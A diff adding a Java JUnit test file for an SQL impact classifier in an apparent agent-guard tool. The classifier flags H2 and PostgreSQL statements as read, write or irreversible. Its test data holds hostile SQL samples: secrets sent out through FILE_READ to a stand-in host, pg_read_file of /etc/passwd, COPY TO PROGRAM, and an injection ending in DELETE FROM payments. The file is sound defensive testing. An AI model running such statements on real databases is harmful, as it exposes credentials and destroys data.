@@ -1,0 +1,76 @@
+package dev.leash.tools.sql;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.leash.api.tool.Impact;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+
+class SqlAnalysisTest {
+
+    @ParameterizedTest(name = "{0}: {1}")
+    @CsvSource(delimiterString = " ## ", quoteCharacter = '"', value = {
+        "H2 ## SELECT CSVWRITE('/tmp/x', 'SELECT * FROM salaries') ## IRREVERSIBLE ## sql.function ## CSVWRITE",
+        "H2 ## SELECT FILE_READ('https://c.example/?k=' || (SELECT v FROM api_keys)) ## IRREVERSIBLE ## sql.function ## FILE_READ",
+        "H2 ## SELECT * FROM LINK_SCHEMA('L', '', 'jdbc:h2:mem:x', 'sa', '', 'PUBLIC') ## IRREVERSIBLE ## sql.function ## LINK_SCHEMA",
+        "H2 ## SELECT NEXT VALUE FOR seq ## IRREVERSIBLE ## sql.function ## NEXT VALUE FOR",
+        "H2 ## SELECT my_alias(1) ## IRREVERSIBLE ## sql.function ## MY_ALIAS",
+        "H2 ## SELECT UPPER(name) FROM t ## READ ## sql.read ## query",
+        "POSTGRESQL ## SELECT setval('s', 1) ## IRREVERSIBLE ## sql.function ## SETVAL",
+        "POSTGRESQL ## SELECT pg_catalog.nextval('s') ## IRREVERSIBLE ## sql.function ## NEXTVAL",
+        "POSTGRESQL ## SELECT public.lower('x') ## IRREVERSIBLE ## sql.function ## PUBLIC.LOWER",
+        "POSTGRESQL ## SELECT \"lower\"('x') ## IRREVERSIBLE ## sql.function ## quoted",
+        "POSTGRESQL ## SELECT pg_advisory_lock(1) ## IRREVERSIBLE ## sql.function ## lock",
+        "POSTGRESQL ## SELECT lo_import('/etc/passwd') ## IRREVERSIBLE ## sql.function ## large objects",
+        "POSTGRESQL ## SELECT pg_read_file('/etc/passwd') ## IRREVERSIBLE ## sql.function ## PG_READ_FILE",
+        "POSTGRESQL ## COPY (SELECT 1) TO PROGRAM 'id' ## IRREVERSIBLE ## sql.statement ## program",
+        "POSTGRESQL ## SELECT * FROM t FOR UPDATE ## WRITE ## sql.lock ## FOR UPDATE",
+        "POSTGRESQL ## SELECT * FROM t FOR NO KEY UPDATE ## WRITE ## sql.lock ## FOR NO KEY UPDATE",
+        "POSTGRESQL ## SELECT * FROM t FOR KEY SHARE ## WRITE ## sql.lock ## FOR KEY SHARE",
+        "POSTGRESQL ## WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d ## IRREVERSIBLE ## sql.delete ## DELETE",
+        "POSTGRESQL ## MERGE INTO t USING s ON (t.id = s.id) WHEN MATCHED THEN DELETE ## IRREVERSIBLE ## sql.delete ## DELETE",
+        "POSTGRESQL ## WITH u AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM u ## WRITE ## sql.write ## UPDATE",
+        "POSTGRESQL ## SELECT E'\\''; DELETE FROM payments; --' ## IRREVERSIBLE ## sql.unparsed ## E'...'",
+        "POSTGRESQL ## SELECT $$x$$ ## IRREVERSIBLE ## sql.unparsed ## dollar",
+        "POSTGRESQL ## SELECT 1 /* a /* b */ */ ## IRREVERSIBLE ## sql.unparsed ## nested",
+        "POSTGRESQL ## SELECT 1; SELECT nextval('s') ## IRREVERSIBLE ## sql.function ## NEXTVAL",
+        "POSTGRESQL ## SELECT generate_series(1, 3) ## READ ## sql.read ## query",
+        "UNKNOWN ## SELECT lower('x') ## IRREVERSIBLE ## sql.function ## unknown database",
+        "UNKNOWN ## SELECT * FROM t ## READ ## sql.read ## query",
+    })
+    void impactRuleAndReasonNameWhatTheStatementCanDo(SqlDialect dialect, String sql, Impact impact, String rule, String names) {
+        SqlAnalysis analysis = SqlAnalysis.of(sql, dialect);
+
+        assertThat(analysis.impact()).as(sql).isEqualTo(impact);
+        assertThat(analysis.rule()).as(sql).contains(rule);
+        assertThat(analysis.reason()).as(sql).containsIgnoringCase(names);
+        assertThat(analysis.impactReason().isPresent()).isEqualTo(impact != Impact.READ);
+    }
+
+    @Test
+    void aDangerousFunctionIsNamedEvenInTextThatCouldBeReadTwoWays() {
+        SqlAnalysis analysis = SqlAnalysis.of("SELECT * FROM LINK_SCHEMA('L', '', 'jdbc:h2:mem:x;INIT=RUNSCRIPT FROM ''a''\\;', 'sa', '', 'P')",
+                SqlDialect.H2);
+
+        assertThat(analysis.impact()).isEqualTo(Impact.IRREVERSIBLE);
+        assertThat(analysis.parsed()).isFalse();
+        assertThat(analysis.rule()).isEqualTo("sql.unparsed+sql.function");
+        assertThat(analysis.reason()).contains("backslash").contains("LINK_SCHEMA");
+    }
+
+    @Test
+    void eachStatementReachesTheDriverOnItsOwn() {
+        SqlAnalysis analysis = SqlAnalysis.of("SELECT 1; SELECT 'a;b' ; SELECT 2", SqlDialect.H2);
+
+        assertThat(analysis.sources()).containsExactly("SELECT 1", "SELECT 'a;b'", "SELECT 2");
+        assertThat(analysis.impact()).isEqualTo(Impact.READ);
+    }
+
+    @Test
+    void theDialectComesFromTheJdbcUrl() {
+        assertThat(SqlDialect.fromJdbcUrl("jdbc:h2:mem:x")).isEqualTo(SqlDialect.H2);
+        assertThat(SqlDialect.fromJdbcUrl("jdbc:postgresql://db/app")).isEqualTo(SqlDialect.POSTGRESQL);
+        assertThat(SqlDialect.fromJdbcUrl("jdbc:mysql://db/app")).isEqualTo(SqlDialect.UNKNOWN);
+    }
+}
